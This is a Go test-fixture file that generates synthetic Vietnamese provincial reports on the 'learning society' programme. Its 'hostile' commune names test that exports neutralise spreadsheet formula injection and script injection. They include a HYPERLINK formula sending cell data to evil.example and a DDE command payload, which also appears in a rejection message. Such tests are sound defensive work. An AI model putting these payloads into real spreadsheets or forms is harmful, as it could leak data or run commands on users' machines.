package report

import (
	"fmt"
	"math/rand/v2"
	"time"
)

// Test fixtures are built in Go rather than read from files, so a change
// to the model breaks them at compile time, and their sizes can vary.

// hostile are names a commune could type into its form that a spreadsheet
// would run or a browser would execute if not neutralised.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
	"@SUM(1)",
	"-1+2",
	"<script>alert(1)</script>",
	"  +cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=2+2",
}

var syllables = []string{"Tân", "Cương", "Phú", "Xuyên", "Hòa", "Bình", "Đồng", "Hỷ", "Quang", "Sơn",
	"Vạn", "Thọ", "Minh", "Lập", "Yên", "Lạc", "Thượng", "Nùng", "Điềm", "Mặc", "Trung", "Hội", "Khánh"}

// fixtureReport is a 15 December report with n communes in districts
// districts (0: none, the post-2025 shape). Figures are pseudo-random with
// a fixed seed; some are unknown (nil); the first communes carry the
// hostile names.
func fixtureReport(n, districts int) *Report {
	rng := rand.New(rand.NewPCG(42, uint64(n*7+districts)))
	r := &Report{
		Deadline:     "12-15",
		Title:        "BÁO CÁO Kết quả thực hiện Kế hoạch xây dựng xã hội học tập năm 2026 trên địa bàn tỉnh Thái Nguyên",
		Year:         2026,
		Province:     "19",
		ProvinceName: "Thái Nguyên",
		Issuer: Issuer{
			Parent: "ỦY BAN NHÂN DÂN TỈNH THÁI NGUYÊN", Name: "SỞ GIÁO DỤC VÀ ĐÀO TẠO", Symbol: "SGDĐT", Place: "Thái Nguyên",
			Signer: Signer{Authority: "KT. GIÁM ĐỐC", Title: "PHÓ GIÁM ĐỐC", Name: "Nguyễn Văn An"},
			Addressees: Addressees{To: []string{"Bộ Giáo dục và Đào tạo", "Ủy ban nhân dân tỉnh Thái Nguyên"},
				CC: []string{"Giám đốc Sở (để báo cáo)"}, Archive: "VT, GDTX"},
		},
		CutOff:       time.Date(2026, 12, 14, 17, 0, 0, 0, time.UTC),
		DataTime:     time.Date(2026, 12, 14, 9, 5, 0, 0, time.UTC),
		Registry:     "2026-04",
		HasDistricts: districts > 0,
	}
	targets := map[string]float64{"ho_dat": 0.8, "dong_ho_dat": 0.8, "thon_dat": 0.8, "don_vi_dat": 0.9, "cong_dan_dat": 0.35}
	scale := map[string]int64{"ho_dat": 4000, "dong_ho_dat": 40, "thon_dat": 15, "don_vi_dat": 20, "cong_dan_dat": 9000}
	for i := 0; i < n; i++ {
		name := "Xã " + syllables[rng.IntN(len(syllables))] + " " + syllables[rng.IntN(len(syllables))]
		if i%9 == 4 {
			name = "Phường " + syllables[rng.IntN(len(syllables))] + " " + syllables[rng.IntN(len(syllables))] + " " + syllables[rng.IntN(len(syllables))]
		}
		if i < len(hostile) {
			name = hostile[i]
		}
		row := Row{Level: "commune", Code: fmt.Sprintf("%05d", 5000+i), Name: name, Cells: map[string]Cell{}}
		if districts > 0 {
			row.District = fmt.Sprintf("%03d", 100+i%districts)
		}
		for _, m := range Models {
			if (m.Code == "ho_dat" && i%13 == 12) || (m.Code == "dong_ho_dat" && i%17 == 5) {
				row.Cells[m.Code] = Cell{} // nothing reported
				continue
			}
			total := scale[m.Code]/2 + rng.Int64N(scale[m.Code])
			rec := total * int64(55+rng.IntN(45)) / 100
			c := Cell{Total: ptr(total), Recognised: ptr(rec), Rate: ptr(float64(rec) / float64(total)),
				Target: ptr(targets[m.Code]), TargetSource: "Kế hoạch số 123/KH-UBND"}
			c.Met = ptr(*c.Rate >= *c.Target)
			if m.Code == "ho_dat" || m.Code == "cong_dan_dat" {
				if i%11 != 3 { // some communes have no comparable last year
					prev := *c.Rate - 0.05 + rng.Float64()*0.08
					c.PrevRate, c.Change = ptr(prev), ptr(*c.Rate-prev)
				}
			}
			row.Cells[m.Code] = c
		}
		row.Hamlets = row.Cells["thon_dat"].Total
		if i%10 != 7 {
			row.XaMucDo1, row.XaMucDo2 = ptr(int64(rng.IntN(2))), ptr(int64(rng.IntN(2)))
			row.TTHTCDLop, row.TTHTCDLuot = ptr(int64(5+rng.IntN(40))), ptr(int64(200+rng.IntN(3000)))
			row.TTHTCDCNTT = ptr(int64(rng.IntN(2)))
			row.HoiVien, row.HoiVienTapHuan = ptr(int64(300+rng.IntN(2000))), ptr(int64(rng.IntN(200)))
		}
		r.Communes = append(r.Communes, row)
	}
	if districts > 0 {
		// Communes by district, then code, as the model promises.
		var sorted []Row
		for d := 0; d < districts; d++ {
			code := fmt.Sprintf("%03d", 100+d)
			var members []Row
			for _, c := range r.Communes {
				if c.District == code {
					members = append(members, c)
				}
			}
			sorted = append(sorted, members...)
			sub := sumRows("district", code, fmt.Sprintf("Huyện %s %s", syllables[d], syllables[d+5]), members, targets)
			r.Districts = append(r.Districts, sub)
		}
		r.Communes = sorted
	}
	r.Total = sumRows("province", "19", "Thái Nguyên", r.Communes, targets)
	r.Summary = []string{
		fmt.Sprintf("Toàn tỉnh có %s xã phải báo cáo; %s xã đã gửi số liệu trước thời hạn.", fmtInt(int64(n)), fmtInt(int64(n-n/10))),
		"Tỷ lệ hộ gia đình được công nhận “Gia đình học tập” đạt " + fmtPct(*r.Total.Cells["ho_dat"].Rate) + ", chỉ tiêu 80%.",
		"Tỷ lệ công dân học tập đạt " + fmtPct(*r.Total.Cells["cong_dan_dat"].Rate) + "; một số xã chưa báo cáo đầy đủ nên số liệu toàn tỉnh còn thiếu.",
	}
	statuses := []string{"on_time", "on_time", "on_time", "late", "on_time", "rejected_only", "on_time", "missing", "on_time", "on_time"}
	c := Completeness{Expected: int64(n)}
	for i, cm := range r.Communes {
		st := CommuneStatus{Code: cm.Code, Name: cm.Name, District: cm.District, Status: statuses[i%len(statuses)],
			Due: time.Date(2026, 12, 10, 17, 0, 0, 0, time.UTC)}
		switch st.Status {
		case "on_time":
			st.FirstAccepted = time.Date(2026, 12, 9, 2, i%60, 0, 0, time.UTC)
			c.OnTime++
		case "late":
			st.FirstAccepted = time.Date(2026, 12, 12, 3, i%60, 0, 0, time.UTC)
			c.Late++
		case "rejected_only":
			st.LastRejection = "=cmd|' /C calc'!A0 — Biểu 01, dòng 12: số hộ đạt (1.250) lớn hơn tổng số hộ (1.200)"
			c.RejectedOnly++
		case "missing":
			c.Missing++
		}
		c.Communes = append(c.Communes, st)
	}
	c.Submitted = c.OnTime + c.Late
	r.Completeness = c
	for y := 2022; y <= 2026; y++ {
		p := YearPoint{Year: y, Rates: map[string]*float64{}, Rebased: y < 2025, Complete: y != 2023}
		for i, m := range Models {
			if y == 2022 && m.Code == "don_vi_dat" {
				p.Rates[m.Code] = nil // not collected that year
				continue
			}
			p.Rates[m.Code] = ptr(0.4 + 0.06*float64(y-2022) + 0.05*float64(i))
		}
		r.Trend = append(r.Trend, p)
	}
	return r
}

// sumRows adds communes up the way the roll-up does: counts are sums of
// the known figures, nil when none is known; rates recomputed.
func sumRows(level, code, name string, rows []Row, targets map[string]float64) Row {
	out := Row{Level: level, Code: code, Name: name, Cells: map[string]Cell{}}
	add := func(dst **int64, v *int64) {
		if v != nil {
			if *dst == nil {
				*dst = ptr(int64(0))
			}
			**dst += *v
		}
	}
	for _, m := range Models {
		var c Cell
		var prevNum, prevDen float64
		for _, r := range rows {
			rc := r.Cells[m.Code]
			add(&c.Total, rc.Total)
			add(&c.Recognised, rc.Recognised)
			if rc.PrevRate != nil && rc.Total != nil {
				prevNum += *rc.PrevRate * float64(*rc.Total)
				prevDen += float64(*rc.Total)
			}
		}
		if c.Total != nil && *c.Total > 0 && c.Recognised != nil {
			c.Rate = ptr(float64(*c.Recognised) / float64(*c.Total))
			c.Target = ptr(targets[m.Code])
			c.Met = ptr(*c.Rate >= *c.Target)
			if prevDen > 0 {
				c.PrevRate = ptr(prevNum / prevDen)
				c.Change = ptr(*c.Rate - *c.PrevRate)
			}
		}
		out.Cells[m.Code] = c
	}
	for _, r := range rows {
		add(&out.Hamlets, r.Hamlets)
		add(&out.XaMucDo1, r.XaMucDo1)
		add(&out.XaMucDo2, r.XaMucDo2)
		add(&out.TTHTCDLop, r.TTHTCDLop)
		add(&out.TTHTCDLuot, r.TTHTCDLuot)
		add(&out.TTHTCDCNTT, r.TTHTCDCNTT)
		add(&out.HoiVien, r.HoiVien)
		add(&out.HoiVienTapHuan, r.HoiVienTapHuan)
	}
	return out
}

// movementReport is the same figures as a 1 December report.
func movementReport(n, districts int) *Report {
	r := fixtureReport(n, districts)
	r.Deadline = "12-01"
	r.Title = "BÁO CÁO Kết quả Phong trào “Cả nước thi đua xây dựng xã hội học tập, đẩy mạnh học tập suốt đời” năm 2026"
	r.Issuer.To = []string{"Hội đồng Thi đua - Khen thưởng tỉnh Thái Nguyên", "Ủy ban nhân dân tỉnh Thái Nguyên"}
	r.Issuer.CC = []string{"Sở Nội vụ (Ban Thi đua - Khen thưởng tỉnh Thái Nguyên)"}
	r.CutOff = time.Date(2026, 11, 30, 17, 0, 0, 0, time.UTC)
	return r
}

func ptr[T any](v T) *T { return &v }
